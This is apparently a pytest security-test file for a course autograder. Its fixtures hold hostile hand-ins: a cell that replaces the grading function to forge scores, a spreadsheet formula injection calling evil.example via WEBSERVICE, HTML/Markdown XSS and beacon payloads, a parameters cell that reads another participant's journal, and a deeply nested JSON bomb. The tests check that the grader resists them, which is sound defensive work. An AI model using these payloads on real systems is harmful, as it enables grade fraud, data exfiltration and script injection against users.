"""Hand-ins that tried to forge their score, and two autograde runs on one course.

The scores come from the handed-in journal, checked in the grader's process: replacing the
check function or pointing ``journal_path`` at another participant's journal earns nothing, and
the summary says what was found. One small course (one step) keeps the kernels few.
"""

from __future__ import annotations

import csv
import io
import threading
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from courses import ASSIGNMENT, cli, grades, make_course, make_submission
from journals import complete_answers
from nbformat.v4 import new_code_cell

from mentor_workshop.core.safe_html import CSP_META
from mentor_workshop.errors import CourseBusyError
from mentor_workshop.facilitator import course as mw_course
from mentor_workshop.facilitator.autograde import AutogradeReport, autograde
from mentor_workshop.facilitator.course.lock import course_lock

pytestmark = pytest.mark.slow
STEP = "01_shortlist"

FORGE_CHECK = """import mentor_workshop.core.checks as _c
import mentor_workshop.checks as _s
def _full(step_id, journal=None, points=1.0):
    return None
_c.grade = _s.grade = _full
"""


REFLECTION = "I will ask Dana.\r=WEBSERVICE(\"https://evil.example/?\"&A1)\r\n+SUM(1)\n@x"
BEACON = """import mentor_workshop as _mw
from IPython.display import HTML, Markdown, display
def _show(*args, **kwargs):
    display(HTML("<script>alert('mw-xss')</script><img src='https://beacon.example/a.gif'>"
                 "<link rel='prefetch' href='https://beacon.example/b'>"
                 "<meta http-equiv='refresh' content='0;url=https://beacon.example/c'>"
                 "<svg><image href='https://beacon.example/d'/></svg>"
                 "<b onmouseover='alert(1)'>Your step</b>"
                 "<a href='javascript:alert(2)'>click</a>"))
    display(Markdown("<script>alert('md')</script>[x](javascript:alert(3))"))
_mw.show = _show
"""


def _add_before_first_test(code: str, *, params: str | None = None):
    def edit(name: str, nb: nbformat.NotebookNode) -> None:
        if params is not None:
            nb.cells[1].source = params  # the unlocked parameters cell
        if code:
            nb.cells.insert(3, new_code_cell(code))

    return edit


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> dict:
    base = tmp_path_factory.mktemp("sec-autograde")
    course = make_course(base, [STEP], timeout=5)
    inbox = base / "inbox"
    full = complete_answers()
    # honest and complete; its reflection tries to split the grading sheet with a formula
    make_submission(course, inbox / "p01", answers=full, reflection=REFLECTION)
    make_submission(course, inbox / "p02", edit=_add_before_first_test(FORGE_CHECK))
    # p03's empty journal, but the parameters cell reads the honest p01's copy
    victim = course / "submitted" / "p01" / ASSIGNMENT / "journal.json"
    make_submission(course, inbox / "p03", edit=_add_before_first_test(
        "", params=f'participant_id = ""\nparticipant_name = ""\njournal_path = r"{victim}"'))
    # and p04 rewrites its own journal while the notebook runs
    rewrite = ("import json, pathlib\npathlib.Path('journal.json').write_text(json.dumps("
               f"{{'schema_version': 1, 'answers': {full!r}}}))")
    make_submission(course, inbox / "p04", edit=_add_before_first_test(rewrite))
    # p05 makes the locked show cell print a script and network beacons into its feedback
    make_submission(course, inbox / "p05", answers=full, edit=_add_before_first_test(BEACON))
    # p06's journal is nested 100,000 levels deep: graded as empty, said, never a crash
    make_submission(course, inbox / "p06", journal='{"schema_version": 1, "answers": '
                    + "[" * 100_000 + "]" * 100_000 + "}")
    assert len(mw_course.collect(course, inbox).collected) == 6
    report = autograde(course, workers=2, progress=False)
    return {"course": course, "report": report}


def _problems(report: AutogradeReport, pid: str) -> str:
    return "\n".join(next(p for p in report.participants if p.participant == pid).problems)


def test_honest_hand_in_keeps_its_score_and_no_note(graded: dict) -> None:
    report = graded["report"]
    assert _problems(report, "p01") == ""
    assert grades(graded["course"])[("p01", STEP, "test_01")][0] == 3.0


@pytest.mark.parametrize("pid", ["p02", "p03", "p04"])
def test_forged_scores_earn_nothing_and_are_reported(graded: dict, pid: str) -> None:
    assert grades(graded["course"])[(pid, STEP, "test_01")][0] == 0.0
    problems = _problems(graded["report"], pid)
    assert "runs before locked cells" in problems or "parameters cell" in problems
    if pid == "p02":  # the replaced check returned a number the journal does not support
        assert "the journal's score counts" in problems
    # p03: in the sandbox p01's journal is not even visible, so the kernel's own number may
    # agree with the empty journal; outside it, it disagrees and is reported. Either way the
    # score is the handed-in journal's (0), and the changed parameters cell is named.


def test_a_deep_journal_is_graded_as_empty_and_reported(graded: dict) -> None:
    outcome = next(p for p in graded["report"].participants if p.participant == "p06")
    assert outcome.error is None and outcome.score == 0
    assert "journal.json is damaged" in _problems(graded["report"], "p06")


def test_the_feedback_copy_shows_the_score_that_counted(graded: dict) -> None:
    nb = nbformat.read(graded["course"] / "autograded" / "p02" / ASSIGNMENT / f"{STEP}.ipynb",
                       as_version=4)
    test = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") ==
                "test_01")
    results = [o for o in test.outputs if o.output_type == "execute_result"]
    assert [r.data["text/plain"] for r in results] == ["0.0"]


def test_a_locked_cell_cannot_put_script_or_beacons_in_feedback(graded: dict) -> None:
    course = graded["course"]
    assert _problems(graded["report"], "p05")  # the added cell is reported
    report = mw_course.feedback(course, participants=["p05"])
    assert not report.failed and report.files
    page = report.files[0].read_text(encoding="utf-8")
    assert CSP_META in page.split("</head>")[0]
    assert "<b>Your step</b>" in page  # the output is shown, as harmless markup
    tags = _Tags()
    tags.feed(page)
    scripts = [text for tag, _, text in tags.seen if tag == "script"]
    assert not [t for t in scripts if "alert" in t], scripts  # the template's own may stay
    for tag, attrs, _ in tags.seen:
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert "beacon.example" not in (value or ""), (tag, name, value)
            assert not (value or "").strip().lower().startswith("javascript:"), (tag, value)
        assert tag not in ("link", "iframe", "svg", "image") or "beacon" not in str(attrs)
        assert not (tag == "meta" and ("http-equiv", "refresh") in attrs)


class _Tags(HTMLParser):
    """Every start tag with its attributes, and the text inside each script."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, list, str]] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.seen.append((tag, attrs, ""))

    def handle_data(self, data: str) -> None:
        if self.seen and self.seen[-1][0] == "script":
            tag, attrs, text = self.seen[-1]
            self.seen[-1] = (tag, attrs, text + data)


def test_reflection_text_cannot_start_a_row_or_a_formula_in_csv(graded: dict,
                                                                tmp_path: Path) -> None:
    course = graded["course"]
    sheet, scores = tmp_path / "to_grade.csv", tmp_path / "grades.csv"
    assert cli(["grade", "export", str(course), str(sheet)]).returncode == 0
    assert cli(["export", str(course), str(scores)]).returncode == 0
    for path in (sheet, scores):
        raw = path.read_bytes().decode("utf-8-sig")
        assert "\r" not in raw
        for line in raw.splitlines():
            assert line[:1] not in ("=", "+", "-", "@", "\t"), (path.name, line)
    rows = list(csv.DictReader(io.StringIO(sheet.read_text(encoding="utf-8-sig"), newline="")))
    texts = [r["answer"] for r in rows if "WEBSERVICE" in r["answer"]]
    assert len(texts) == 1 and "\n'=WEBSERVICE" in texts[0] and "\n'+SUM" in texts[0]


def test_a_second_autograde_or_a_collect_meanwhile_refuses_clearly(graded: dict,
                                                                    tmp_path: Path) -> None:
    course = graded["course"]
    held, release = threading.Event(), threading.Event()

    def hold() -> None:
        with course_lock(course, "test"):
            held.set()
            release.wait(30)

    thread = threading.Thread(target=hold)
    thread.start()
    try:
        assert held.wait(10)
        with pytest.raises(CourseBusyError, match="Another autograde or collect is running"):
            autograde(course, progress=False)
        result = cli(["autograde", str(course), "--no-progress"])
        assert result.returncode != 0 and "this autograde did not start" in result.stderr
        inbox = tmp_path / "inbox"
        make_submission(course, inbox / "p01")
        with pytest.raises(CourseBusyError, match="this collect did not start"):
            mw_course.collect(course, inbox)
    finally:
        release.set()
        thread.join()


def test_exit_code_is_non_zero_when_a_notebook_could_not_be_graded(graded: dict) -> None:
    report = AutogradeReport(workers=1)
    from mentor_workshop.facilitator.autograde import NotebookOutcome, ParticipantOutcome

    report.participants = [
        ParticipantOutcome("p01", ASSIGNMENT, [NotebookOutcome(STEP, "graded")]),
        ParticipantOutcome("p02", ASSIGNMENT, [NotebookOutcome(STEP, "failed", notes=["x"])]),
    ]
    assert report.ungraded == [f"p02/{STEP}"]
    assert "Could not grade 1" in report.lines()[-1]
    # and the command says so in its exit code: a notebook broken beyond reading
    course = graded["course"]
    broken = course / "submitted" / "p01" / ASSIGNMENT / f"{STEP}.ipynb"
    good = broken.read_text(encoding="utf-8")
    broken.write_text('{"cells": "not a list", "nbformat": 4, "nbformat_minor": 5, '
                      '"metadata": {}}', encoding="utf-8")
    try:
        result = cli(["autograde", str(course), "--participant", "p01", "--no-progress"])
    finally:
        broken.write_text(good, encoding="utf-8")
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Could not grade" in result.stdout
